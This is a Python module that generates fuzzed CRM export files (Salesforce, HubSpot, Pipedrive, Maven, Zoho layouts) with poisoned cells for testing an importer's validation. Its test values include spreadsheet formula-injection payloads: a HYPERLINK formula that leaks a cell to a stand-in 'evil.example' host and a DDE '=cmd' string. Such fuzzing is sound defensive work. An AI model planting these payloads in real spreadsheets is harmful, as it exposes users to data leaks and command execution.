"""CRM exports made up from known deals, for property tests and the fuzzing benchmark.

A :class:`Deal` is the truth; a :class:`Layout` writes it the way one source writes it
(the generic format, Salesforce, HubSpot, Pipedrive, Maven), as CSV or XLSX. A row can
be *poisoned*: one cell replaced by a value the importer must refuse, and the layout
says which column the refusal must name. So every generated file comes with what an
import of it must do: which rows land (and as what), which rows are refused, and why.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from datetime import date, timedelta

from hypothesis import strategies as st

# Characters every encoding the importer reads (UTF-8, UTF-16, Windows-1252) can hold.
TEXT_ALPHABET = st.characters(
    codec="cp1252", exclude_categories=("Cc", "Cs", "Co", "Cn", "Zl", "Zp")
)
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)")
# what the import strips from a cell's ends: Unicode's White_Space characters
SPACES = "".join(map(chr, range(0x2000, 0x200B)))  # en quad to hair space
STRIP = " \t\n\x0b\x0c\r\x85\u00a0\u1680" + SPACES + "\u2028\u2029\u202f\u205f\u3000"
MAX_NAME_LENGTH = 200  # deal ids, owners and stages are kept in columns of 200 characters
XLSX_CELL = 32_767  # the most characters a workbook cell holds


@dataclass(frozen=True)
class Deal:
    """What a row means: the facts an import of it must store."""

    deal_id: str
    name: str
    owner: str
    outcome: str  # open, won, lost
    cents: int
    created: date
    close: date  # closed_at of a closed deal, expected close of an open one

    @property
    def amount(self) -> float:
        return self.cents / 100


@dataclass(frozen=True)
class Poison:
    """One cell of a row replaced by ``value``, which must be refused."""

    field: str  # deal_id, amount, created, close, outcome, owner
    value: str


@dataclass(frozen=True)
class Row:
    deal: Deal
    poison: Poison | None = None


@dataclass(frozen=True)
class Layout:
    """How one source writes a deal: its headers and cells, and the column a problem
    with each field is reported under."""

    format: str
    headers: tuple[str, ...]
    cells: Callable[[Deal], dict[str, str]]
    columns: dict[str, str]  # field -> the header it is written under
    problem_columns: dict[str, str] = field(default_factory=dict)  # where they differ
    keeps_expected_close: bool = True
    # What `walkaway import` is told besides the file (--map for a CRM it has no
    # importer for, --dayfirst).
    options: tuple[str, ...] = ()

    def problem_column(self, name: str) -> str:
        return self.problem_columns.get(name, self.columns[name])


def _us(day: date) -> str:
    return f"{day.month}/{day.day}/{day.year}"


def _money(cents: int, symbol: str = "") -> str:
    return f"{symbol}{cents // 100:,}.{cents % 100:02d}"


def _generic(deal: Deal) -> dict[str, str]:
    closed = deal.outcome != "open"
    return {
        "deal_id": deal.deal_id,
        "name": deal.name,
        "owner": deal.owner,
        "stage": "Proposal",
        "amount": f"{deal.amount}",
        "created_at": deal.created.isoformat(),
        "expected_close": "" if closed else deal.close.isoformat(),
        "closed_at": deal.close.isoformat() if closed else "",
        "outcome": deal.outcome,
    }


def _salesforce(deal: Deal) -> dict[str, str]:
    stage = {"won": "Closed Won", "lost": "Closed Lost"}.get(deal.outcome, "Prospecting")
    return {
        "Opportunity ID": deal.deal_id,
        "Opportunity Name": deal.name,
        "Opportunity Owner": deal.owner,
        "Stage": stage,
        "Amount": _money(deal.cents, "$"),
        "Created Date": _us(deal.created),
        "Close Date": _us(deal.close),
    }


def _hubspot(deal: Deal) -> dict[str, str]:
    stage = {"won": "closedwon", "lost": "closedlost"}.get(deal.outcome, "appointmentscheduled")
    return {
        "Record ID": deal.deal_id,
        "Deal Name": deal.name,
        "Deal owner": deal.owner,
        "Deal Stage": stage,
        "Amount": f"{deal.amount}",
        "Create Date": f"{deal.created.isoformat()} 10:12",
        "Close Date": deal.close.isoformat(),
    }


def _pipedrive(deal: Deal) -> dict[str, str]:
    return {
        "ID": deal.deal_id,
        "Title": deal.name,
        "Owner": deal.owner,
        "Stage": "Proposal Made",
        "Value": _money(deal.cents),
        "Status": deal.outcome,
        "Deal created": f"{deal.created.isoformat()} 09:12:44",
        "Won time": f"{deal.close.isoformat()} 15:03:10" if deal.outcome == "won" else "",
        "Lost time": f"{deal.close.isoformat()} 10:20:00" if deal.outcome == "lost" else "",
        "Expected close date": deal.close.isoformat() if deal.outcome == "open" else "",
    }


def _maven(deal: Deal) -> dict[str, str]:
    stage = {"won": "Won", "lost": "Lost"}.get(deal.outcome, "Engaging")
    return {
        "opportunity_id": deal.deal_id,
        "sales_agent": deal.owner,
        "product": "GTX Pro",
        "account": deal.name,
        "deal_stage": stage,
        "engage_date": deal.created.isoformat(),
        "close_date": deal.close.isoformat() if deal.outcome != "open" else "",
        "close_value": f"{deal.amount}",
    }


def _uk(day: date) -> str:
    return f"{day.day:02d}/{day.month:02d}/{day.year}"


def _salesforce_uk(deal: Deal) -> dict[str, str]:
    """A Salesforce report from a UK org: dates day first, pounds."""
    cells = _salesforce(deal)
    cells.update(
        {
            "Amount": _money(deal.cents, "£"),
            "Created Date": _uk(deal.created),
            "Close Date": _uk(deal.close),
        }
    )
    return cells


def _zoho(deal: Deal) -> dict[str, str]:
    """A CRM Walkaway has no importer for (Zoho's headers), read through --map."""
    return {
        "Record Id": deal.deal_id,
        "Deal Name": deal.name,
        "Deal Owner": deal.owner,
        "Stage": {"won": "Closed Won", "lost": "Closed Lost"}.get(deal.outcome, "Qualification"),
        "Amount": _money(deal.cents),
        "Created Time": f"{deal.created.isoformat()} 10:15:00",
        "Closing Date": deal.close.isoformat(),
        "Deal Status Code": deal.outcome.capitalize(),
    }


ZOHO_MAP = (
    "--map",
    "deal_id=Record Id",
    "--map",
    "name=Deal Name",
    "--map",
    "owner=Deal Owner",
    "--map",
    "created_at=Created Time",
    "--map",
    "close_date=Closing Date",
    "--map",
    "outcome=Deal Status Code=Won:won,Lost:lost,Open:open",
)


def _maven_name(deal: Deal, *, xlsx: bool = False) -> str:
    account = (deal.name[:XLSX_CELL] if xlsx else deal.name).strip(STRIP)
    return f"{account} – GTX Pro" if account else "GTX Pro"


LAYOUTS: dict[str, Layout] = {
    "generic": Layout(
        "generic",
        tuple(_generic(Deal("x", "", "", "open", 0, date.min, date.min))),
        _generic,
        {
            "deal_id": "deal_id",
            "amount": "amount",
            "created": "created_at",
            "close": "closed_at",
            "outcome": "outcome",
            "owner": "owner",
        },
    ),
    "salesforce": Layout(
        "salesforce",
        tuple(_salesforce(Deal("x", "", "", "open", 0, date.min, date.min))),
        _salesforce,
        {
            "deal_id": "Opportunity ID",
            "amount": "Amount",
            "created": "Created Date",
            "close": "Close Date",
            "owner": "Opportunity Owner",
        },
    ),
    "hubspot": Layout(
        "hubspot",
        tuple(_hubspot(Deal("x", "", "", "open", 0, date.min, date.min))),
        _hubspot,
        {
            "deal_id": "Record ID",
            "amount": "Amount",
            "created": "Create Date",
            "close": "Close Date",
            "owner": "Deal owner",
        },
    ),
    "pipedrive": Layout(
        "pipedrive",
        tuple(_pipedrive(Deal("x", "", "", "open", 0, date.min, date.min))),
        _pipedrive,
        {
            "deal_id": "ID",
            "amount": "Value",
            "created": "Deal created",
            "close": "Won time",
            "owner": "Owner",
        },
        problem_columns={"close": "Won time / Lost time"},
    ),
    "maven": Layout(
        "maven",
        tuple(_maven(Deal("x", "", "", "open", 0, date.min, date.min))),
        _maven,
        {
            "deal_id": "opportunity_id",
            "amount": "close_value",
            "created": "engage_date",
            "close": "close_date",
            "owner": "sales_agent",
        },
        problem_columns={"amount": "sales_price (products.csv) or close_value"},
        keeps_expected_close=False,
    ),
}

_SALESFORCE_COLUMNS = LAYOUTS["salesforce"].columns
# Layouts the benchmark fuzzes by the thousand beside LAYOUTS (a few cases in the tests):
# an export of a CRM with no importer, read through --map, and day-first dates, decided by
# the file's own cells or said outright.
MORE_LAYOUTS: dict[str, Layout] = {
    "mapped zoho": Layout(
        "zoho",
        tuple(_zoho(Deal("x", "", "", "open", 0, date.min, date.min))),
        _zoho,
        {
            "deal_id": "Record Id",
            "amount": "Amount",
            "created": "Created Time",
            "close": "Closing Date",
            "outcome": "Deal Status Code",
            "owner": "Deal Owner",
        },
        options=ZOHO_MAP,
    ),
    "day-first salesforce": Layout(
        "salesforce",
        tuple(_salesforce_uk(Deal("x", "", "", "open", 0, date.min, date.min))),
        _salesforce_uk,
        _SALESFORCE_COLUMNS,
    ),
    "day-first salesforce, --dayfirst": Layout(
        "salesforce",
        tuple(_salesforce_uk(Deal("x", "", "", "open", 0, date.min, date.min))),
        _salesforce_uk,
        _SALESFORCE_COLUMNS,
        options=("--dayfirst",),
    ),
}


def cells_of(layout: Layout, row: Row) -> dict[str, str]:
    """The row's cells as the source writes them, the poisoned one replaced."""
    cells = layout.cells(row.deal)
    if row.poison is not None:
        header = layout.columns[row.poison.field]
        if row.poison.field == "close" and layout.format == "pipedrive":
            header = "Won time" if row.deal.outcome == "won" else "Lost time"
        cells[header] = row.poison.value
    return cells


def to_csv(layout: Layout, rows: list[Row], delimiter: str = ",") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(layout.headers)
    for row in rows:
        cells = cells_of(layout, row)
        writer.writerow([cells[h] for h in layout.headers])
    return buffer.getvalue()


def to_xlsx(layout: Layout, rows: list[Row]) -> bytes:
    """The same rows as a workbook of text cells (what "Export to Excel" gives)."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(list(layout.headers))
    for row in rows:
        cells = cells_of(layout, row)
        sheet.append([cells[h] or None for h in layout.headers])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- what an import of the rows must do -------------------------------------------------


def problems_expected(
    layout: Layout, rows: list[Row], *, xlsx: bool = False
) -> set[tuple[int, str]]:
    """``(row number, column)`` of every problem the import must report (header = row 1)."""
    expected: set[tuple[int, str]] = set()
    seen: set[str] = set()
    for number, row in enumerate(rows, start=2):
        deal_id = row.deal.deal_id
        if row.poison is not None and _refused(layout, row.poison, xlsx=xlsx):
            expected.add((number, layout.problem_column(row.poison.field)))
            if row.poison.field == "deal_id":
                deal_id = row.poison.value
        if deal_id.strip(STRIP) in seen:
            expected.add((number, layout.problem_column("deal_id")))
        seen.add(deal_id.strip(STRIP))
    return expected


def _refused(layout: Layout, poison: Poison, *, xlsx: bool) -> bool:
    """A formula in a workbook reads as its saved value (none here): an empty cell, which
    Maven's optional close value may be (the amount is then 0, marked estimated)."""
    return not (xlsx and is_formula(poison.value) and layout.format == "maven")


def is_formula(text: str) -> bool:
    """Does a workbook keep this text as a formula? A text cell starting with ``=`` and
    longer than that one character (a lone ``=`` stays text, as openpyxl writes it)."""
    return len(text) > 1 and text.startswith("=")


_DAY_MONTH = re.compile(r"^(\d{1,2})/(\d{1,2})/\d{4}$")


def dates_undecided(layout: Layout, rows: list[Row]) -> bool:
    """Does the file write dates such as 3/4/2026 that read two ways, and none that only
    reads one way (a 13 or more before or after the first slash)? Then it is refused
    as a whole, naming --dayfirst and --monthfirst. (Every layout writes all its dates
    the same way, so one deciding cell decides every date column.)"""
    if {"--dayfirst", "--monthfirst"} & set(layout.options):
        return False
    either = decides = False
    for row in rows:
        cells = cells_of(layout, row)
        for name in ("created", "close"):
            found = _DAY_MONTH.match(cells.get(layout.columns.get(name, ""), "") or "")
            if found:
                a, b = int(found[1]), int(found[2])
                decides = decides or max(a, b) > 12
                either = either or (a != b and max(a, b) <= 12)
    return either and not decides


def valid_rows(layout: Layout, rows: list[Row], *, xlsx: bool = False) -> list[Row]:
    bad = {number for number, _column in problems_expected(layout, rows, xlsx=xlsx)}
    return [row for number, row in enumerate(rows, start=2) if number not in bad]


def landing(layout: Layout, row: Row, *, xlsx: bool) -> Deal:
    """The deal a valid row stores (a poison that is no problem changes the amount)."""
    if row.poison is not None and row.poison.field == "amount":
        return replace(row.deal, cents=0)
    return row.deal


def text_as_read(text: str, *, xlsx: bool) -> str | None:
    """A cell as the reader gives it back: stripped, empty as null; in a workbook a text
    starting with ``=`` is a formula, whose saved value (none here) is what is read, and
    a cell holds at most 32,767 characters."""
    if xlsx and is_formula(text):
        return None
    if xlsx:
        text = text[:XLSX_CELL]
    return text.strip(STRIP) or None


def stored_expected(layout: Layout, deal: Deal, *, xlsx: bool) -> dict[str, object]:
    """The fields of the stored deal that a row of ``deal`` must give."""
    closed = deal.outcome != "open"
    name = _maven_name(deal, xlsx=xlsx) if layout.format == "maven" else deal.name
    if layout.format == "maven" and xlsx and is_formula(deal.name):
        name = "GTX Pro"
    return {
        "deal_id": deal.deal_id,
        "name": text_as_read(name, xlsx=xlsx) if layout.format != "maven" else name,
        "owner": text_as_read(deal.owner, xlsx=xlsx),
        "outcome": deal.outcome,
        "amount": deal.amount,
        "created": deal.created,
        "closed": deal.close if closed else None,
        "expected_close": deal.close if not closed and layout.keeps_expected_close else None,
    }


# --- strategies ---------------------------------------------------------------------------

POISONS: dict[str, tuple[str, ...]] = {
    "deal_id": ("",),
    "amount": ("lots", "=1+1", "-500", "12 apples", "NaN", "inf", "1e20", "2000000000000"),
    "created": ("not a date", "2026-02-30", "yesterday", "9999-12-31", "0001-01-01", "1900-01-01"),
    "close": ("soon", "2026-02-30", "9999-12-31", "2101-01-01"),
    "outcome": ("maybe",),
    "owner": ("R" * (MAX_NAME_LENGTH + 1),),
}
OWNERS = ("Ana", "Zoë Müller", "Jonas Weber", "Élodie Martin", "=cmd|' /C calc'!A0")


def names() -> st.SearchStrategy[str]:
    plain = st.text(TEXT_ALPHABET, min_size=1, max_size=40)
    huge = st.text(TEXT_ALPHABET, min_size=1, max_size=3).map(lambda s: s * 12_000)
    return st.one_of(plain, st.sampled_from(FORMULAS), huge).filter(lambda s: s.strip(STRIP))


@st.composite
def deals(draw: st.DrawFn, number: int) -> Deal:
    created = draw(st.dates(date(2015, 1, 1), date(2099, 12, 31)))
    return Deal(
        deal_id=f"F-{number}",
        name=draw(names()),
        owner=draw(st.sampled_from(OWNERS)),
        outcome=draw(st.sampled_from(("open", "won", "lost"))),
        cents=draw(st.integers(0, 10**9)),
        created=created,
        close=created + timedelta(days=draw(st.integers(0, 400))),
    )


@st.composite
def rows_of(draw: st.DrawFn, layout: Layout, *, poisoned: bool = True) -> list[Row]:
    """1–8 rows; some poisoned, some repeating an earlier row's id."""
    count = draw(st.integers(1, 8))
    rows = [Row(draw(deals(number))) for number in range(count)]
    if not poisoned:
        return rows
    fields = [f for f in POISONS if f in layout.columns]
    for index in range(count):
        if draw(st.integers(0, 3)) == 0:
            poison_field = draw(st.sampled_from(fields))
            if poison_field == "close" and rows[index].deal.outcome == "open":
                continue  # an open deal's close date is its expected close: see below
            value = draw(st.sampled_from(POISONS[poison_field]))
            rows[index] = replace(rows[index], poison=Poison(poison_field, value))
        elif index and draw(st.integers(0, 5)) == 0:
            earlier = draw(st.integers(0, index - 1))
            same_id = replace(rows[index].deal, deal_id=rows[earlier].deal.deal_id)
            rows[index] = replace(rows[index], deal=same_id)
    return rows
